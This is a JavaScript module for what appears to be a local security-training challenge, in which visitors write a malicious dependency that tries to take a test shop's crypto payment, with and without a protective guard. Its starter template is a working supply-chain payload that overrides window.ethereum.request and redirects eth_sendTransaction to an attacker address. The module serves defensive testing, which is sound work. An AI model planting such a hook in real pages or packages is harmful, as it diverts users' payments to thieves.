// Owns the challenge: an editor for the malicious dependency, filled by hand or with any sample of the tests, and the script that the shop then loads.
import { createHash } from 'node:crypto';
import { Script } from 'node:vm';
import { attackSource, loadAddresses, loadSamples, unfit } from '../js-shim/cli/audit/samples.mjs';
import { escape, framed, inlineJson } from './document.mjs';

const MOST_CODE = 64 << 10;
const MOST_KEPT = 200;

const FIRST = `// You are the dependency. This runs in the shop's page, after the guard (when there is one) and before the shop.
// Get paid: anything but the shop's own account counts. \`attackers\` holds the addresses of this game.
const original = window.ethereum.request;
window.ethereum.request = function request(call) {
  if (call.method === 'eth_sendTransaction') {
    const [transaction] = call.params;
    call = { ...call, params: [{ ...transaction, to: attackers.EVIL }] };
  }
  return original.call(this, call);
};
`;

const LEVELS = {
  prevented: 'The guard prevents it',
  detected: 'The guard can only detect and tell',
  needs: 'A response header stops it',
  out: 'Out of reach of any page script',
};

export async function openChallenge() {
  const samples = (await loadSamples()).filter((sample) => sample.level !== 'control');
  const attackers = loadAddresses();
  /** What visitors wrote, by its hash; the oldest goes first. */
  const kept = new Map();

  const textOf = (slug) => {
    const sample = samples.find((it) => it.slug === slug);
    if (!sample) return null;
    const { id, title, source } = sample;
    const code = attackSource(sample).replaceAll('/* @__PURE__ */ ', '');
    return `// ${id}: ${title}\n// Seen: ${source}\n(${code})(attackers);\n`;
  };

  return {
    /** Keeps what a visitor wrote, and says by which name the shop finds it; null when it is too long. */
    keep(text) {
      if (text.length > MOST_CODE) return null;
      const name = createHash('sha256').update(text).digest('hex').slice(0, 16);
      kept.delete(name);
      kept.set(name, text);
      if (kept.size > MOST_KEPT) kept.delete(kept.keys().next().value);
      return name;
    },
    /** Why a text is no script at all, or null: the shop would load it and nothing would happen. */
    wrong(text) {
      try {
        new Script(text, { filename: 'own.js' });
        return null;
      } catch (error) {
        const line = /^own\.js:(\d+)/.exec(error.stack)?.[1];
        return `${line ? `Line ${line}: ` : ''}${error.message}`;
      }
    },
    /** The editor again, with what is wrong. */
    refused: (text, problem) => render({ samples, sample: null, text, problem }),
    textOf,
    has: (name) => kept.has(name),
    /** The dependency as the shop loads it: the addresses of the game, then the visitor's text as it is. */
    script: (name) => {
      if (!kept.has(name)) return null;
      const first = `var attackers = ${inlineJson({ ...attackers })};attackers.origin = attackers.other = location.origin;`;
      const end = `document.documentElement.dataset.payload = 'ready';`;
      return `${first}\n${kept.get(name)}\n;${end}\n`;
    },
    page: ({ code, sample }) => render({ samples, sample, text: kept.get(code) ?? textOf(sample) ?? FIRST }),
  };
}

function render({ samples, sample, text, problem = null }) {
  const chosen = samples.find(({ slug }) => slug === sample);
  return framed({
    path: '/challenge',
    title: 'Write the attack',
    lead: 'You wrote a dependency of the shop. Take the payment: once without the guard, then with it. Nothing here leaves this machine, and the money is a test chain’s.',
    body: `<section class="card">
<form method="get" action="/challenge" class="line">
<label for="sample">Start from one of ${samples.length} samples</label>
<select id="sample" name="sample"><option value="">your own</option>${groups(samples, sample)}</select>
<button class="quiet">Put it into the editor</button>
</form>
${chosen ? note(chosen) : ''}
</section>
<section class="card">
<form method="post" action="/challenge">
${problem ? `<p class="missed" role="alert" id="problem">This would not run. ${escape(problem)}</p>` : ''}
<label for="code">The dependency’s code</label>
<textarea id="code" name="code" rows="24" spellcheck="false" autocapitalize="off" autocomplete="off" maxlength="${MOST_CODE}"${problem ? ' aria-invalid="true" aria-describedby="problem" autofocus' : ''}>${escape(text)}</textarea>
<div class="line">
<button class="primary" name="guard" value="off">Try it without the guard</button>
<button class="primary" name="guard" value="on">Try it with the guard</button>
</div>
<p class="quiet">The shop opens with your code in it. Press Pay there; the evidence beside it comes from the wallet’s side and from the chain, and each thing that the guard refused is explained as a tree.</p>
</form>
</section>`,
  });
}

function groups(samples, chosen) {
  const levelOf = ({ level }) => (typeof level === 'object' ? 'needs' : level);
  return Object.entries(LEVELS)
    .map(([level, text]) => {
      const list = samples.filter((sample) => levelOf(sample) === level);
      const options = list.map(
        ({ slug, id, title }) =>
          `<option value="${escape(slug)}"${slug === chosen ? ' selected' : ''}>${escape(`${id}  ${title}`)}</option>`,
      );
      return `<optgroup label="${text} (${list.length})">${options.join('')}</optgroup>`;
    })
    .join('');
}

function note(sample) {
  const reason = unfit(sample, 'chromium');
  const policy = sample.policy ? JSON.stringify(sample.policy(loadAddresses())) : null;
  const level = typeof sample.level === 'object' ? sample.level.needs : LEVELS[sample.level];
  return `<dl class="facts">
<div><dt>Seen</dt><dd>${escape(sample.source)}</dd></div>
<div><dt>Level</dt><dd>${escape(level)}${sample.why ? `: ${escape(sample.why)}` : ''}</dd></div>
${reason ? `<div><dt>In this shop</dt><dd>It may find nothing to take: ${escape(reason)}.</dd></div>` : ''}
${policy ? `<div><dt>Proven under</dt><dd><code>${escape(policy)}</code></dd></div>` : ''}
</dl>`;
}
